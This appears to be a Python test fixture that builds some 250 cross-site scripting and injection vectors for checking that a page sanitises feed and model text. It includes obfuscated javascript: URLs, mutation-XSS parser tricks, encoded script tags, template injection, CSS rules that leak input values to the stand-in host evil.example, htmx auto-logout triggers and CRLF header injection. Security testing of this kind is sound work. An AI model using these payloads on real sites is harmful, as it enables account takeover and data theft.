"""Two hundred and fifty ways in which a text can try to become a page's code; each runs `canary(NUMBER)` if it can.

Grouped by what they rest on: markup, handlers, foreign elements, addresses, how they are written, what parsers make of
them, the page's own scripts, and lines of headers. Any of them may come as title, text, author or address from a feed,
or as a sentence from a model.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass

from tests.fakes.vectors_markup import EVENTS, FOREIGN, TAGS

HOST = "evil.example"


@dataclass(frozen=True, slots=True)
class Vector:
    """`markup` ones change a page that they are put into raw; an `address` is for places that take one."""

    number: int
    text: str
    kind: str

    @property
    def word(self) -> str:
        """A harmless word of its own, to be sought beside it."""
        return f"harbour{self.number}x"


# "§" stands for the call in each pattern: canary(NUMBER).
ADDRESSES = (
    "javascript:§",
    "JavaScript:§",
    "JAVASCRIPT:§",
    "jAvAsCrIpT:§",
    " javascript:§",
    "\tjavascript:§",
    "java\tscript:§",
    "java\nscript:§",
    "java\rscript:§",
    "javascript\t:§",
    "\x01javascript:§",
    "\u00a0javascript:§",
    "\u200bjavascript:§",
    "\ufeffjavascript:§",
    "java\u00adscript:§",
    "javascript://example.com/%0a§",
    "javascript:/*https://example.com/*/§",
    "javascript://https://example.com/%0d%0a§",
    "javascript:§//https://example.com/",
    "javascript:void(§)",
    "javascript:%63anary(0)",
    "javascript&colon;§",
    "javascript&#58;§",
    "javascript&#x3a;§",
    "&#106;avascript:§",
    "&#x6A;avascript:§",
    "&#0000106avascript:§",
    "java&Tab;script:§",
    "java&NewLine;script:§",
    "jav&#x09;ascript:§",
    "jav&#10;ascript:§",
    "%6Aavascript:§",
    "ｊavascript:§",
    "javascript：§",
    "vbscript:§",
    "livescript:§",
    "mocha:§",
    "data:text/html,<script>§</script>",
    "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMCk8L3NjcmlwdD4=",
    "data:text/html;charset=utf-7,+ADw-script+AD4-§+ADw-/script+AD4-",
    "DATA:text/html,<script>§</script>",
    "data:image/svg+xml,<svg onload=§>",
    "data:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>§</x:script>",
    "data:,§",
    "blob:https://HOST/§",
    "filesystem:https://HOST/§",
    "view-source:javascript:§",
    "feed:javascript:§",
    "jar:https://HOST/x!/§",
    "file:///etc/passwd?§",
    "//HOST/§",
    "\\\\HOST\\§",
    "/\\HOST/§",
    "https:HOST/§",
    "https://[HOST/§",
    "https://news.example@HOST/§",
    'https://HOST/"onmouseover=§//',
    "https://HOST/'onfocus='§' autofocus='",
    "https://HOST/><script>§</script>",
    "https://HOST/?q=<img src=x onerror=§>",
)
PARSERS = (
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=§&gt;">',
    '<svg></p><style><a id="</style><img src=x onerror=§>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=§>",
    '<noscript><p title="</noscript><img src=x onerror=§>">',
    "<style><style/><img src=x onerror=§>",
    "<textarea><p title='</textarea><img src=x onerror=§>'>",
    "<title><p title='</title><img src=x onerror=§>'>",
    "<xmp><p title='</xmp><img src=x onerror=§>'>",
    "<!--><img src=x onerror=§>-->",
    "<!--!><img src=x onerror=§>",
    "<!-- --!><img src=x onerror=§>",
    "<![CDATA[><img src=x onerror=§>]]>",
    "<?xml version=1.0?><img src=x onerror=§>",
    "<!DOCTYPE x [<!ENTITY y '§'>]><img src=x onerror=&y;>",
    "<?php echo '<script>§</script>' ?>",
    "<%<script>§</script>%>",
    "<a href='<!--' title='--><img src=x onerror=§>'>x</a>",
    "<p/id='x'/onclick='§'>x</p>",
    "<img src='1' onerror='§' <",
    "<img \x0bsrc=x \x0conerror=§>",
    "<img\u2028src=x onerror=§>",
    "<img src=x onerror=&#99;anary(0)>",
    "<b><b><b><p><svg><desc><b></p><img src=x onerror=§>",
    "<table><tr><td><svg><desc><td><img src=x onerror=§>",
    "<select><template><script>§</script></template></select>",
    "<option><style></option></select><img src=x onerror=§></style>",
    '<svg><p><style><g title="</style><img src=x onerror=§>">',
    "<math><mi><table><mi><style></table><img src=x onerror=§>",
    "<embed code='<img src=x onerror=§>' allowscriptaccess=always>",
)
WRITINGS = (
    "&lt;script&gt;§&lt;/script&gt;",
    "&amp;lt;script&amp;gt;§&amp;lt;/script&amp;gt;",
    "&#60;script&#62;§&#60;/script&#62;",
    "&#x3c;script&#x3e;§&#x3c;/script&#x3e;",
    "&#0000060script&#0000062§&#0000060/script&#0000062",
    "&lt&#59;img src=x onerror=§&gt",
    "\\u003cscript\\u003e§\\u003c/script\\u003e",
    "\\x3cscript\\x3e§\\x3c/script\\x3e",
    "%3Cscript%3E§%3C/script%3E",
    "%253Cscript%253E§%253C/script%253E",
    "+ADw-script+AD4-§+ADw-/script+AD4-",
    "＜script＞§＜/script＞",
    "‹script›§‹/script›",
    "\u202e<script>§</script>\u202c",
    "<\u200bscript>§</script>",
    "<scr\u00adipt>§</scr\u00adipt>",
    "<ſcript>§</ſcript>",
    "<ımg src=x onerror=§>",
    "\ud7ff<script>§</script>\ufffd",
    "c\u0327<svg onload=§>",
)
CODE = (
    "';§//",
    '";§//',
    "`;§//",
    "${§}",
    "`${§}`",
    "'+§+'",
    '"-§-"',
    "\\';§//",
    "</script>';§//",
    "*/§/*",
    "\u2028§\u2029",
    "{{ § }}",
    "{{constructor.constructor('§')()}}",
    "{% load static %}{% debug %}§",
    "{{ settings.SECRET_KEY }}§",
    "#{§}",
    "<%= § %>",
    "[[§]]",
    "[click](javascript:§)",
    "![x](//HOST/p.png)",
    "[x]: javascript:§",
    "<javascript:§>",
    "'\"><svg onload=§>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+§//'>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=§ )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
    "\\x3csVg/<sVg/oNloAd=§//>\\x3e",
    '">><marquee><img src=x onerror=§></marquee>"></plaintext\\></|\\><plaintext/onmouseover=§>',
    "' autofocus onfocus='§",
    '" autofocus onfocus="§',
    '" style="animation:x" onanimationstart="§',
    "x onmouseover=§ ",
)
STYLES = (
    "<style>@import'//HOST/x.css';</style>",
    "<style>body{background:url(//HOST/b)}</style>",
    "<style>*{background:url('javascript:§')}</style>",
    "<style>input[value^=a]{background:url(//HOST/a)}</style>",
    "<style>@font-face{font-family:x;src:url(//HOST/f)}p{font-family:x}</style>",
    "<style>main{display:none}</style>",
    "<p style=background:url(//HOST/s)>x</p>",
    "<p style='width:expression(§)'>x</p>",
    "<p style='-moz-binding:url(//HOST/x.xml)'>x</p>",
    "<p style='behavior:url(//HOST/x.htc)'>x</p>",
    "<p style='position:fixed;inset:0;z-index:9'>covers the page</p>",
    "<p class=evidence style='list-style-image:url(//HOST/l)'>x</p>",
    "}</style><img src=x onerror=§>",
)
# Names that would stand in the way of the page's own scripts and of htmx, and orders to htmx.
OWN = (
    "<a id=keys>x</a>",
    "<img name=serviceWorker>",
    "<form name=navigator></form>",
    "<a id=defaultView><a id=defaultView name=x href=javascript:§>",
    "<form id=canary><input name=attributes></form>",
    "<form id=canary><input name=nodeName></form>",
    "<iframe name=htmx srcdoc='<a id=config href=//HOST>'></iframe>",
    "<img name=getElementById>",
    "<img name=querySelectorAll>",
    "<a id=talk-trouble>x</a>",
    "<input name=csrfmiddlewaretoken value=canary form=x>",
    "<div hx-get=//HOST/x hx-trigger=load>x</div>",
    "<div hx-get=/settings/ hx-trigger=load hx-target=body>x</div>",
    "<div hx-post=/accounts/logout/ hx-trigger=load>x</div>",
    "<div data-hx-get=//HOST/x data-hx-trigger=load>x</div>",
    "<div hx-on:click=§>x</div>",
    "<div hx-on::load=§>x</div>",
    "<div hx-on='htmx:load: §'>x</div>",
    "<div hx-vals='js:{x:§}' hx-get=/ hx-trigger=load>x</div>",
    "<div hx-headers='js:{x:§}' hx-get=/ hx-trigger=load>x</div>",
    "<div hx-trigger='load[§]' hx-get=/>x</div>",
    "<div hx-ext=canary hx-swap-oob=true id=main>x</div>",
    "<div id=talk-status hx-swap-oob=innerHTML><script>§</script></div>",
    "<meta name=htmx-config content='{\"allowEval\":true}'>",
    "<div hx-disable hx-boost=true><a href=javascript:§>x</a></div>",
)
HEADERS = (
    "x\r\nSet-Cookie: canary=1",
    "x\r\nLocation: https://HOST/",
    "x\r\n\r\n<script>§</script>",
    "x%0d%0aSet-Cookie:canary=1",
    "x\nBcc: everybody@HOST\n\n<script>§</script>",
    "x\u0085Refresh: 0;url=https://HOST/",
    "x\u2028Content-Type: text/html\u2028\u2028<script>§</script>",
    "=?utf-8?B?PHNjcmlwdD5jYW5hcnkoMCk8L3NjcmlwdD4=?=",
)
FAMILIES = {
    "tag": TAGS,
    "event": EVENTS,
    "foreign": FOREIGN,
    "address": ADDRESSES,
    "parser": PARSERS,
    "writing": WRITINGS,
    "code": CODE,
    "style": STYLES,
    "own": OWN,
    "header": HEADERS,
}


def _all() -> Iterator[Vector]:
    number = 0
    for kind, patterns in FAMILIES.items():
        for pattern in patterns:
            number += 1
            yield Vector(number, pattern.replace("HOST", HOST).replace("§", f"canary({number})"), kind)


VECTORS = tuple(_all())
